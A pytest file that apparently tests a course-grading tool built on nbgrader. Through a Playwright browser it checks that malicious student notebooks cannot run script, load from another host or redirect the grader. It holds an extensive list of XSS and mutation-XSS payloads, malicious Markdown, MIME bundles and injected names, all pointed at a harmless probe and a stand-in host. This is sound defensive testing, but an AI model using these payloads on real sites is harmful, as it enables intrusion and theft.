"""Pages in a real browser: what a trainee wrote runs nowhere, asks no other host, leads nowhere; honest work shows."""

from __future__ import annotations

import itertools
import os
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import browser
import kursus
import nbformat
import nbgrader
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from playwright.sync_api import Page, sync_playwright
from traitlets.config import Config

from melayani.grading.sanitize import picture, safe_html

pytestmark = pytest.mark.slow  # a Jupyter server, nbgrader and a browser

RUN = "bobol(%d)"
FAR = "http://jahat.example/%d"
NUMBERS = itertools.count(10)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='bobol(8)'><script>bobol(9)</script></svg>"

# Attacks as HTML: `$RUN` runs in the page, `$FAR` asks another host. Each goes into an output and into a Markdown cell.
HTML = [
    "<script>$RUN</script>",
    "<script src=$FAR></script>",
    "<script type=module>$RUN</script>",
    "<img src=x onerror='$RUN'>",
    "<img src=$FAR>",
    "<img srcset='$FAR 1x' alt=peta>",
    "<picture><source srcset=$FAR><img alt=peta src='data:image/png;base64,AA=='></picture>",
    "<svg onload='$RUN'><circle r=3></svg>",
    "<svg><script>$RUN</script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>$RUN</script>'></iframe></foreignObject></svg>",
    "<svg><image href=$FAR></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=\"$RUN\"/>#x'></svg>",
    "<svg><a xlink:href='javascript:$RUN'><text y=9>klik</text></a></svg>",
    "<a href='javascript:$RUN'>klik</a>",
    "<a href='JaVa&#10;Script:$RUN'>klik</a>",
    "<a href='&#14;&#32;javascript&colon;$RUN'>klik</a>",
    "<a href='data:text/html,<script>$RUN</script>'>klik</a>",
    "<a href='vbscript:x' ping=$FAR>klik</a>",
    "<iframe src='javascript:$RUN'></iframe>",
    "<iframe src=$FAR></iframe>",
    "<iframe srcdoc='<script>$RUN</script>'></iframe>",
    "<embed src='data:image/svg+xml,<svg onload=\"$RUN\"/>'>",
    "<object data=$FAR></object>",
    "<link rel=stylesheet href=$FAR>",
    "<link rel=prefetch href=$FAR>",
    "<style>@import '$FAR'; body{background:url($FAR)}</style>",
    "<p style='background:url($FAR)'>x</p>",
    "<p style='position:fixed;inset:0;background-image:image-set(url($FAR) 1x)'>x</p>",
    "<table background=$FAR><tr><td background=$FAR>x</table>",
    "<meta http-equiv=refresh content='0;url=$FAR'>",
    "<base href=$FAR>",
    "<form action=$FAR><input autofocus onfocus='$RUN'><button>Kirim</button></form>",
    "<video src=$FAR poster=$FAR onerror='$RUN'><source src=$FAR></video><audio src=$FAR autoplay></audio>",
    "<details open ontoggle='$RUN'><summary>x</summary>y</details>",
    "<body onload='$RUN'><marquee onstart='$RUN'>x</marquee>",
    "<div class='navbar-fixed-top modal in name-shown' id=statusmessage tabindex=1 onclick='$RUN'>x</div>",
    # Broken on purpose: harmless to one parser, a script to the next.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=$RUN&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=$RUN>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=$RUN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=$RUN>",
    "<textarea><img title='</textarea><img src=x onerror=$RUN>'>",
    "<!--><img src=x onerror=$RUN>-->",
    "<![CDATA[><img src=x onerror=$RUN>]]>",
    "<img alt='<img src=x onerror=$RUN>' src='data:image/png;base64,iVBORw0KGgo='>",
    "<<script>script>$RUN</script>",
    '<a title="`"href=`javascript:$RUN`>klik</a><a href="https://contoh.id/&quot; onclick=$RUN x=&quot;">k</a>',
    "<x-a style='animation-name:x' onanimationstart='$RUN'>x</x-a><style>@keyframes x{}</style>",
]
MARKDOWN = [
    "[klik](javascript:$RUN)",
    '![x](x"onerror=$RUN)',
    "![peta]($FAR)",
    "[klik][1]\n\n[1]: javascript:$RUN",
    "<javascript:$RUN>",
    "$$\\href{javascript:$RUN}{klik}$$",
    "$\\unicode{<img src=x onerror=$RUN>}$",
    "$$\\require{html}\\style{background:url($FAR)}{x}$$",
    "```<img src=x onerror=$RUN>\nx\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=$RUN>"] --> B\nclick B "javascript:$RUN"\n```',
    "![x](attachment:jahat)",
    "\\begin{x}<img src=x onerror=$RUN>\\end{x}",
]
# Other kinds of output: {mime type: data}.
BUNDLES: list[dict[str, Any]] = [
    {"application/javascript": "$RUN", "text/plain": "<script>$RUN</script>"},
    {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='$RUN'><script>$RUN</script></svg>"},
    {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><image href='$FAR' width='9' height='9'/></svg>"},
    {"image/png": '"><img src=x onerror=$RUN>'},
    {"image/jpeg": 'AA=="onerror="$RUN'},
    {"text/latex": "$\\href{javascript:$RUN}{x}$ <img src=x onerror=$RUN>"},
    {"text/markdown": "<img src=x onerror=$RUN>\n\n[klik](javascript:$RUN)"},
    {"text/vnd.mermaid": 'graph TD; A["<img src=x onerror=$RUN>"]'},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>$RUN</script>", "version_major": 2}},
    {"text/plain": "\x1b[31m<img src=x onerror=$RUN>\x1b[0m"},
    {"application/pdf": "JVBERi0="},
]


def armed(attacks: list[Any]) -> list[Any]:
    """Return the attacks with a number of their own in each."""

    def arm(attack: Any) -> Any:
        if isinstance(attack, dict):
            return {key: arm(value) for key, value in attack.items()}
        if not isinstance(attack, str):
            return attack
        number = next(NUMBERS)
        return attack.replace("$RUN", RUN % number).replace("$FAR", FAR % number)

    return [arm(attack) for attack in attacks]


CODE = """\
from IPython.display import display
import sys
for html in {html!r}:
    display({{"text/html": html, "text/plain": ""}}, raw=True)
for bundle in {bundles!r}:
    display(bundle, raw=True, metadata={{"alt": '"><img src=x onerror=bobol(`alt`)>'}})
display({{"text/html": "<b>x</b>"}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
print("<script>bobol(`stdout`)</script>")
print("<script>bobol(`stderr`)</script>", file=sys.stderr)
"""
# nbgrader shows what an error says, in its page too.
RAISES = "class Jahat(Exception): pass\nraise Jahat('<img src=x onerror=bobol(`galat`)>')"


def attack_cells() -> list[NotebookNode]:
    """Return the cells that an attacker adds to a hand-in."""
    html, bundles = armed(HTML), armed(BUNDLES)
    cells = [new_code_cell(CODE.format(html=html, bundles=bundles)), new_code_cell(RAISES)]
    cells.append(new_code_cell("# </pre></div><script>bobol(`kode`)</script>\n'<img src=x onerror=bobol(1)>'"))
    for text in armed(MARKDOWN + HTML):
        cells.append(new_markdown_cell(text))
    for cell in cells:
        cell.metadata = NotebookNode(
            tags=['"><img src=x onerror=bobol(`tag`)>'], magics_language="<script>bobol(`magic`)</script>"
        )
        if cell.source.endswith("(attachment:jahat)"):
            cell.attachments = {"jahat": {"text/html\"onerror='bobol(2)'": "AA=="}}
    raw = new_raw_cell("<script>bobol(`mentah`)</script>", metadata={"raw_mimetype": "text/html"})
    return [*cells, raw]


HONEST = """\
import base64
import matplotlib.pyplot as plt
import pandas as pd
from IPython.display import HTML, SVG, Math, Markdown, display

svg = '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="20"><rect width="60" height="20"/></svg>'
display(pd.DataFrame({"Loket": ["A", "B"], "Lama (menit)": [5, 12]}))
src = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
display(HTML(f'<figure><img alt="Papan loket" src="{src}"><figcaption>Papan</figcaption></figure>'))
display(SVG(svg))
display(Markdown("| Hari | Orang |\\n|---|---|\\n| Senin | **23** |"))
display(HTML('Lihat <a href="https://contoh.id/sop">SOP</a>'))
plt.plot([1, 2]); plt.show()
"""


def hand_in(root: Path, student: str, cells: list[NotebookNode]) -> Path:
    path = kursus.hand_in(root, student, {"giliran": kursus.RIGHT, "alasan": armed(MARKDOWN)[0]})
    notebook = nbformat.read(path, as_version=4)
    notebook.cells += cells
    notebook.metadata["title"] = "</title><script>bobol(`judul`)</script>"
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script><script>bobol(`w`)</script>"}
    }
    nbformat.write(notebook, path)
    return path.parent


EVIL_NAME = "<img src=x onerror=bobol(`nama`)>"
EVIL_ID = "eva<img src=x onerror=bobol(`id`)>"
EVIL_STRING = 'eva";bobol(`teks`);"'


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """jahat attacks with everything, eva… by their ids, ani is honest; graded, and feedback made."""
    root = kursus.make_course(tmp_path_factory.mktemp("kursus"))
    folder = hand_in(root, "jahat", attack_cells())
    for name in ("halaman.html", "gambar.svg"):
        text = "<script>bobol(7)</script>" if name.endswith("html") else SVG
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "<img src=x onerror=bobol(6)>.txt").write_text("x", encoding="utf-8")
    (folder / "nbgrader_config.py").write_text(
        f"open({str(root / 'bobol-konfigurasi')!r}, 'w').close()\n", encoding="utf-8"
    )
    text = "Rata-ratanya **8,5** menit, yaitu $\\bar{x} = \\frac{1}{n}\\sum x_i$."
    table = f"{text}\n\n| Hari | Orang |\n|---|---|\n| Senin | 23 |"
    hand_in(root, "ani", [new_code_cell(HONEST), new_markdown_cell(table)])
    for student in (EVIL_ID, EVIL_STRING):
        hand_in(root, student, [])
    with kursus.gradebook(root) as book:
        for student in ("jahat", EVIL_ID, EVIL_STRING):
            book.update_or_create_student(student, first_name=EVIL_NAME, last_name=EVIL_NAME, email=EVIL_NAME)
    code, log = kursus.nbgrader(root, "autograde", kursus.ASSIGNMENT)
    assert code == 0, log
    with kursus.gradebook(root) as book:
        comment = book.find_comment("alasan", kursus.ASSIGNMENT, kursus.ASSIGNMENT, "jahat")
        comment.manual_comment = "\n\n".join(armed(HTML + MARKDOWN))
        book.db.commit()
    code, log = kursus.nbgrader(root, "generate_feedback", kursus.ASSIGNMENT)
    assert code == 0, log
    return root


@pytest.fixture(scope="module")
def server(course: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of an instructor's Jupyter server on the course, with its token."""
    config = [str(kursus.REPOSITORY / "config/pengajar"), str(kursus.REPOSITORY / "config"), str(course)]
    environment = browser.outside_environment(tmp_path_factory.mktemp("rumah")) | {
        "JUPYTER_CONFIG_PATH": os.pathsep.join(config),
        "PYTHONPATH": str(kursus.REPOSITORY),
    }
    command = [sys.executable, "-m", "jupyter", "server", "--no-browser", "--ServerApp.port=18990"]
    with browser.jupyterlab(
        [*command, f"--ServerApp.token={browser.TOKEN}", "--ServerApp.ip=127.0.0.1"], course, environment
    ):
        yield "http://127.0.0.1:18990"


class Watched:
    """A browser page, and what happened in it that a hand-in must not cause."""

    def __init__(self, page: Page, home: str) -> None:
        self.page = page
        self.home = home
        self.dialogs: list[str] = []
        self.asked: list[str] = []
        self.refused: list[str] = []
        self.errors: list[str] = []
        self.ran: list[Any] = []
        page.expose_binding("bobol", lambda source, number: self.ran.append(number))
        page.on("dialog", self._dismiss)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("console", lambda said: self.refused.append(said.text) if "Content Security" in said.text else None)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        # The other host answers, with nothing: so the page stays when it is led there.
        page.route(re.compile(r"^https?://(?!127\.0\.0\.1:18990/)"), lambda route: route.fulfill(status=204))

    def _dismiss(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, address: str) -> None:
        """Open `address` afresh, wait until it is quiet, then touch everything in it."""
        for seen in (self.ran, self.dialogs, self.asked, self.refused, self.errors):
            seen.clear()
        self.page.goto(address)
        self.page.wait_for_load_state("networkidle")
        self.page.evaluate(TOUCH)
        self.page.wait_for_timeout(300)

    @property
    def elsewhere(self) -> list[str]:
        """Return what was asked of another host."""
        own = ("data:", "blob:", "file:", self.home)
        return [url for url in self.asked if not url.startswith(own)]

    def unharmed(self, address: str) -> None:
        """Nothing ran, was asked or led away."""
        assert (self.ran, self.dialogs, self.elsewhere) == ([], [], [])
        assert self.page.url.split("?")[0].rstrip("/") == address.split("?")[0].rstrip("/")
        assert len(self.page.frames) == 1 and len(self.page.context.pages) == 1


# Points at, focuses and clicks whatever waits for that, but not what leads to an ordinary page.
TOUCH = """() => {
    for (const element of document.querySelectorAll('body *')) {
        if (element.closest('nav, .help, .panel-heading, .breadcrumb, .nav, button')) continue;
        for (const kind of ['mouseover', 'pointerenter', 'focus', 'animationstart', 'toggle'])
            element.dispatchEvent(new Event(kind, {bubbles: true}));
        const link = element.closest('a');
        if (!link || /^(javascript|data|vbscript):/.test(link.href?.baseVal ?? link.href))
            element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
    }
}"""


@pytest.fixture(scope="module")
def watched(server: str) -> Iterator[Watched]:
    """A browser that is logged in."""
    if not browser.CHROMIUM:
        pytest.skip("needs the Debian package chromium")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=browser.CHROMIUM, args=["--no-sandbox"])
        page = chromium.new_page(viewport={"width": 1366, "height": 768})
        page.goto(f"{server}/formgrader/manage_assignments?token={browser.TOKEN}")
        yield Watched(page, server)
        chromium.close()


def submission(course: Path, student: str) -> str:
    with kursus.gradebook(course) as book:
        return str(book.find_submission_notebook(kursus.ASSIGNMENT, kursus.ASSIGNMENT, student).id)


@pytest.fixture
def grading_page(server: str, course: Path) -> str:
    return f"{server}/formgrader/submissions/{submission(course, 'jahat')}/"


def feedback_page(course: Path, student: str) -> str:
    return (course / "kelas/feedback" / student / kursus.ASSIGNMENT / f"{kursus.ASSIGNMENT}.html").as_uri()


def test_there_are_enough_attacks() -> None:
    assert len(HTML) + len(MARKDOWN) + len(BUNDLES) >= 60


def test_nothing_of_a_hand_in_runs_in_the_grading_page(watched: Watched, grading_page: str) -> None:
    watched.open(grading_page)
    watched.unharmed(grading_page)
    assert watched.refused == []  # the policy had nothing to do: what is refused here would run without it
    assert watched.errors == []
    assert watched.page.locator(".cell").count() > len(HTML) + len(MARKDOWN)


def test_nothing_of_a_hand_in_runs_in_its_feedback_page(watched: Watched, course: Path) -> None:
    address = feedback_page(course, "jahat")
    watched.open(address)
    watched.unharmed(address)
    assert watched.refused == watched.errors == []


def stock_page(course: Path, policy: str) -> str:
    """Return nbgrader's own page of the attack, with `policy` (HTML) in its head."""
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    templates = Path(nbgrader.__file__).parent / "server_extensions/formgrader/templates"
    config.HTMLExporter.extra_template_basedirs = [str(templates)]
    resources = {"submission_id": "x", "notebook_id": "x", "assignment_id": "x", "base_url": "", "index": 0, "total": 1}
    resources |= {"student": "jahat", "first_name": EVIL_NAME, "last_name": EVIL_NAME, "notebook_path": "x"}
    notebook = course / "kelas/autograded/jahat" / kursus.ASSIGNMENT / f"{kursus.ASSIGNMENT}.ipynb"
    html, _ = HTMLExporter(config=config).from_filename(str(notebook), resources=resources)
    return str(html).replace("<head>", f"<head>{policy}", 1)


def test_each_defence_holds_alone_and_without_both_the_attacks_succeed(
    watched: Watched, course: Path, grading_page: str
) -> None:
    watched.open(grading_page)
    (policy,) = re.findall(r"<meta[^>]*Content-Security-Policy[^>]*>", watched.page.content())

    def opened(body: str) -> None:
        watched.page.unroute(grading_page)
        watched.page.route(grading_page, lambda route: route.fulfill(body=body, content_type="text/html"))
        watched.open(grading_page)

    try:
        # nbgrader's page under our policy: no script of the hand-in runs, nothing is loaded from elsewhere.
        opened(stock_page(course, policy))
        assert watched.ran == []
        assert len(watched.refused) > 30
        loaded = {url for url in watched.elsewhere if "cdnjs" not in url}
        opened(stock_page(course, ""))
        assert len(set(watched.ran)) > 25, watched.ran
        assert len(set(watched.elsewhere)) > len(loaded) + 5
    finally:
        watched.page.unroute(grading_page)
        watched.page.goto("about:blank")


LISTS = (
    "manage_students",
    f"manage_submissions/{kursus.ASSIGNMENT}",
    f"gradebook/{kursus.ASSIGNMENT}/{kursus.ASSIGNMENT}",
)


@pytest.mark.parametrize("address", LISTS)
def test_names_are_text_in_the_lists(watched: Watched, server: str, address: str) -> None:
    watched.open(f"{server}/formgrader/{address}")
    watched.unharmed(f"{server}/formgrader/{address}")
    assert watched.page.locator("td", has_text="<img src=x").count() > 0


@pytest.mark.parametrize("student", [EVIL_ID, EVIL_STRING, "x</script><script>bobol(1)</script>", "x\\"])
def test_an_id_that_could_be_a_piece_of_the_page_has_no_page(watched: Watched, server: str, student: str) -> None:
    for address in (
        "manage_students/{}",
        "manage_students/{}/x",
        "manage_submissions/{}",
        "gradebook/{}",
        "api/student/{}",
    ):
        watched.open(f"{server}/formgrader/{address.format(quote(student, safe=''))}")
        assert watched.ran == watched.dialogs == []
        assert watched.page.evaluate("performance.getEntriesByType('navigation')[0].responseStatus") == 404


def test_files_of_a_hand_in_and_answers_as_data_are_strangers_to_the_server(
    watched: Watched, server: str, grading_page: str
) -> None:
    for address in (f"{grading_page}halaman.html", f"{grading_page}gambar.svg", f"{server}/formgrader/api/students"):
        watched.open(address)
        assert watched.ran == watched.dialogs == []
    assert "img src" in watched.page.content()


def test_formgrader_takes_no_configuration_from_a_hand_in(watched: Watched, server: str, course: Path) -> None:
    folder = course / "kelas/autograded/jahat" / kursus.ASSIGNMENT
    watched.open(f"{server}/formgrader?path={quote(str(folder))}")
    assert not (course / "bobol-konfigurasi").exists()
    watched.open(f"{server}/formgrader?path={quote(str(course))}")
    assert watched.page.url == f"{server}/formgrader/manage_assignments"


def test_honest_work_is_shown_as_it_was_made(watched: Watched, server: str, course: Path) -> None:
    for address in (f"{server}/formgrader/submissions/{submission(course, 'ani')}/", feedback_page(course, "ani")):
        watched.open(address)
        watched.unharmed(address)
        page = watched.page
        assert page.locator("table.dataframe th", has_text="Lama (menit)").is_visible()
        assert page.locator("td", has_text="Senin").count() == 2
        assert page.locator("strong", has_text="8,5").is_visible()
        assert page.locator("figure figcaption", has_text="Papan").is_visible()
        assert page.get_by_role("link", name="SOP").get_attribute("href") == "https://contoh.id/sop"
        sizes = page.evaluate("[...document.images].map(image => [image.alt, image.naturalWidth, image.naturalHeight])")
        assert len(sizes) == 4 and all(alt and width and height for alt, width, height in sizes), sizes


def test_the_grader_can_still_use_keys_and_the_eye(watched: Watched, server: str, course: Path) -> None:
    watched.open(f"{server}/formgrader/submissions/{submission(course, 'jahat')}/")
    page = watched.page
    assert page.evaluate("formgrader.loaded && formgrader.grades.loaded && formgrader.comments.loaded")
    page.locator("span.glyphicon-eye-open").click()
    assert page.locator("a.name-shown").inner_text() == f"{EVIL_NAME}, {EVIL_NAME}"
    assert watched.ran == []


def test_filters() -> None:
    for html in armed(HTML):
        soup = BeautifulSoup(safe_html(html), "html.parser")
        assert not soup(["script", "svg", "iframe", "form", "style", "meta", "base", "link", "input", "video"]), html
        given = {name for element in soup(True) for name in element.attrs}
        assert given <= {"alt", "class", "href", "open", "rel", "src", "style", "target", "title"}, (html, given)
        assert "url(" not in str([element.get("style") for element in soup(style=True)])
    assert safe_html('<b class="dataframe modal in nbgrader_cell">x</b>') == '<b class="dataframe in">x</b>'
    assert safe_html("<b>" * 300).startswith("<pre")
    assert safe_html("x<br>" * 3000) == "x<br>" * 3000
    assert picture('AA"==', "png", "Grafik") == "<p>[Gambar ini tidak dapat dibaca: Grafik]</p>"
    assert 'alt="&lt;b&gt;"' in picture("AA==", "png", "<b>")
